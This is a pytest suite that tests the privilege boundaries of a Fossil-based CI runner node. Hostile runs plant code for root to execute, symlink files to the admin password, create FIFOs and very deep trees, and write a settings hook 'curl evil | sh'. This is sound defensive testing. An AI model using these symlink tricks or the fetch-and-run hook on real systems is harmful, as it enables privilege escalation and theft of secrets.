"""The battery, docs/security.md's classes 1, 2 and 4 (D41, D42), and a check-in's link met by the
home made ahead (docs/node.md, 'Runs' homes made ahead'): a run, or a check-in it is given, shapes what
root touches for it; each test asserts the boundary held."""
import os
import secrets
import subprocess
from pathlib import Path

import pytest

from ocx.fossil.program import run_fossil
from ocx.node.run_layout import RunHome, unit_name, unit_stem
from ocx.node.spare import pool
from ocx.node.template import template_path

from .battery import (PLANT, PLANTED, Committer, answers_a_plain_record, ci_values, marker, open_command_record,
                      plants, runner, session)
from .harness import RUNNER, journal, node_idle, wait_for

pytestmark = pytest.mark.systemd


def test_code_a_session_leaves_in_its_home_never_runs_as_root(node):
    """Class 1: `ocx/__init__.py` and friends in the home, where the stop step's working directory was."""
    marked = marker()
    program = (f"for name in {PLANTED!r}:\n"
               "    path = os.path.join(os.environ['HOME'], name)\n"
               "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
               f"    open(path, 'w').write({PLANT.format(marker=str(marked))!r})\n"
               "print('planted', os.getcwd(), flush=True)\n")
    record = session(node, runner(node, "plantsession", program))
    response = node.response(record, timeout=90)
    assert response.outcome.value == "exited" and response.note.startswith("exit 0"), response.note  # its stop step ran
    home = RunHome(unit_stem(node.server_code, record)).on_host
    # The plants were there when root's steps ran: the program wrote each before its `planted` line and
    # its exit 0 (the home itself is removed once the record is answered, node_service/cleanup.py).
    planted = [line for line in journal(node.unit(record)).splitlines() if line.startswith("planted ")]
    assert planted and planted[0].endswith(f"/ocx-runs/{home.name}"), planted  # the program ran in its home
    assert not marked.exists(), f"root ran the run's code: {marked.read_text()}"


def test_code_committed_to_a_watched_branch_never_runs_as_root(node):
    """Class 1, as a hostile check-in: the checkout was the unit's working directory."""
    marked = marker()
    branch = f"plant-{secrets.token_hex(2)}"
    record = open_command_record(node, branch)
    files = {name: PLANT.format(marker=str(marked)) for name in PLANTED}
    checkin = Committer(node, branch).commit({"ci.py": 'print("checked")\n', **files})
    wait_for(lambda: ci_values(node, checkin), 120, 0.5, "the ci verdict")
    assert ci_values(node, checkin) == [f"pass: checked (against {record})"]
    assert not marked.exists(), f"root ran the check-in's code: {marked.read_text()}"
    node.stop(record)
    assert node.response(record).outcome.value == "stopped"


CI_SHAPES = '''import os, sys
mode = open("mode.txt").read().strip()
home = os.environ["HOME"]
last = os.path.join(home, ".ocx-last-line")
if mode == "link":
    os.symlink(sys.argv[1] if len(sys.argv) > 1 else "{secret}", last)
elif mode == "fifo":
    os.mkfifo(last)
elif mode == "lines":
    with open(last, "w") as out:
        for i in range(200000):
            out.write("line %d of many\\n" % i)
        out.write("FINAL \\x1b[31mred\\x07 reason\\r\\n\\n  ")
    os.chmod(last, 0o400)  # the feeder cannot write it: root meets it as the run left it
elif mode == "deep":
    fd = os.open(home, os.O_RDONLY)
    for _ in range(1200):
        os.mkdir("d", dir_fd=fd)
        below = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = below
print("exits 1 after", mode, flush=True)
sys.exit(1)
'''


def test_the_last_line_a_run_shapes_publishes_no_secret_and_stops_nothing(node):
    """Class 2: `.ocx-last-line` linked to the admin's password, a FIFO, many lines
    (unwritable by the feeder), and a 1,200-deep home; each judged, none leaks."""
    secret_path = f"/etc/ocx/{node.name}.admin-password"
    secret = node.admin.password
    branch = f"last-{secrets.token_hex(2)}"
    record = open_command_record(node, branch)
    committer = Committer(node, branch)
    checkins = {mode: committer.commit({"ci.py": CI_SHAPES.replace("{secret}", secret_path), "mode.txt": mode})
                for mode in ("link", "fifo", "lines", "deep")}
    wait_for(lambda: all(ci_values(node, c) for c in checkins.values()), 240, 0.5, "four ci verdicts")
    values = {mode: ci_values(node, checkin) for mode, checkin in checkins.items()}
    for mode, found in values.items():
        assert len(found) == 1 and found[0].startswith("fail: ") and found[0].endswith(f"(against {record})"), values
        assert secret not in found[0] and "\n" not in found[0], found
    assert values["link"][0].startswith("fail: exit 1 after")  # nothing read through the link
    assert values["fifo"][0].startswith("fail: exit 1 after")  # the FIFO refused, never waited on
    assert values["lines"][0] == f"fail: FINAL [31mred reason (against {record})"  # one clean line
    assert values["deep"][0] == f"fail: exits 1 after deep (against {record})"
    deep_home = RunHome(unit_stem(node.server_code, record, checkins["deep"])).on_host
    wait_for(lambda: not deep_home.exists(), 60, 0.2, "the deep home removed")  # 1,200 levels and all, once judged
    answers_a_plain_record(node, RUNNER)
    node.stop(record)
    assert node.response(record).outcome.value == "stopped"


HOSTILE_HOME = '''home_copy = "{home}"
open(os.path.join(home_copy, "settings.json"), "w").write('{"hooks": "curl evil | sh"}')
os.remove(os.path.join(home_copy, "signin"))
os.symlink("{secret}", os.path.join(home_copy, "signin"))
fd = os.open(home_copy, os.O_RDONLY)
for _ in range(1200):
    os.mkdir("d", dir_fd=fd)
    below = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = below
run_home = os.environ["HOME"]
os.rename(os.path.join(run_home, ".runner-homes"), os.path.join(run_home, "moved"))
os.makedirs(os.path.join(run_home, "fake", "0"))
open(os.path.join(run_home, "fake", "0", "signin"), "w").write("forged")
os.symlink(os.path.join(run_home, "fake"), os.path.join(run_home, ".runner-homes"))
print("shaped", flush=True)
'''


def test_a_run_cannot_leave_anything_in_its_runners_home_but_its_kept_file(node):
    """Class 4 (D42): settings a later run would obey, a link to a secret as the
    kept sign-in, a 1,200-deep tree, a linked list of copies: none comes back."""
    home = Path(f"/var/lib/ocx-homes/battery-{secrets.token_hex(3)}")  # not /tmp: runs have their own
    home.mkdir(parents=True)
    (home / "signin").write_text("the operator's sign-in\n")
    program = HOSTILE_HOME.replace("{secret}", f"/etc/ocx/{node.name}.admin-password").replace("{home}", str(home))
    name = runner(node, "hostilehome", program, homes=[str(home)], keep={str(home): ["signin"]})
    record = session(node, name, objective="shape", remote=False)
    response = node.response(record, timeout=120)
    assert response.outcome.value == "exited" and response.note.startswith("exit 0"), journal(node.unit(record))
    assert sorted(p.name for p in home.iterdir()) == ["signin"]
    assert (home / "signin").read_text() == "the operator's sign-in\n" and not (home / "signin").is_symlink()
    answers_a_plain_record(node, RUNNER)


LINK_SHAPE = '''import os
shape = ("a link" if os.path.islink("x") else "a directory" if os.path.isdir("x")
         else "a file" if os.path.exists("x") else "absent")
print("x is", shape, "holding", open("x/evil").read().strip() if shape == "a directory" else "-", flush=True)
'''


def test_a_link_a_checkin_holds_is_never_followed_by_roots_update_of_a_home_made_ahead(node):
    """D41 on the homes made ahead (node/spare.py): as root, Fossil's `update` moves a checkout the node
    made ahead to the check-in a run was given. Trunk's tip holds `x` as a link to the node's secrets
    (committed from a clone that allows links), so the home made ahead checks it out; the watched
    check-in then makes `x` a directory holding `evil`. Root writes it in the home, never through a link."""
    secrets_dir = Path("/etc/ocx")
    there_before = sorted(p.name for p in secrets_dir.iterdir())
    linker = Committer(node, None)  # trunk: the tip a home made ahead checks out
    subprocess.run(["fossil", "settings", "allow-symlinks", "on", "-R", str(linker.clone.path)], check=True,
                   capture_output=True)
    os.symlink(str(secrets_dir), linker.checkout / "x")
    linked = linker.commit({}, "x, a link to the node's secrets")
    manifest = subprocess.run(["fossil", "artifact", linked, "-R", str(linker.clone.path)], check=True,
                              capture_output=True, text=True).stdout
    assert any(line.startswith("F x ") and line.endswith(" l") for line in manifest.splitlines()), manifest
    branch = f"link-{secrets.token_hex(2)}"
    record = open_command_record(node, branch)
    with node.repository() as repository:
        upto = repository.max_rcvid()  # the link and the record: the runs' clone pulls both once idle
    def made_ahead() -> bool:  # idle, with homes made from the runs' clone holding the link on trunk's tip
        made = pool(template_path(node.config))
        return node_idle(node.name) and bool(made) and all(mark >= upto for mark, _ in made)

    wait_for(made_ahead, 120, 0.2, "the node idle with homes made ahead")
    x = pool(template_path(node.config))[0][1] / "checkout" / "x"
    assert not x.is_symlink() and x.read_text() == str(secrets_dir)  # root's own `open`: the link's text, no link
    committer = Committer(node, branch)  # its checkout is trunk's tip, `x` a plain file there (no links allowed)
    (committer.checkout / "x").unlink()
    (committer.checkout / "x").mkdir()
    (committer.checkout / "x" / "evil").write_text("planted\n")
    for change in (["rm", "x"], ["add", "x/evil"]):  # addremove adds nothing beneath a name known as a file (2.21)
        run_fossil(change, home=committer.clone.home, cwd=committer.checkout, user=committer.clone.login)
    checkin = committer.commit({"ci.py": LINK_SHAPE}, "x, a directory")
    wait_for(lambda: ci_values(node, checkin), 120, 0.5, "the ci verdict")
    assert ci_values(node, checkin) == [f"pass: x is a directory holding planted (against {record})"]
    steps = journal(unit_name(node.server_code, record, checkin))
    assert "prepare: a checkout made ahead by the node in place" in steps, steps  # the path under attack
    assert sorted(p.name for p in secrets_dir.iterdir()) == there_before  # nothing written through the link
    node.stop(record)
    assert node.response(record).outcome.value == "stopped"
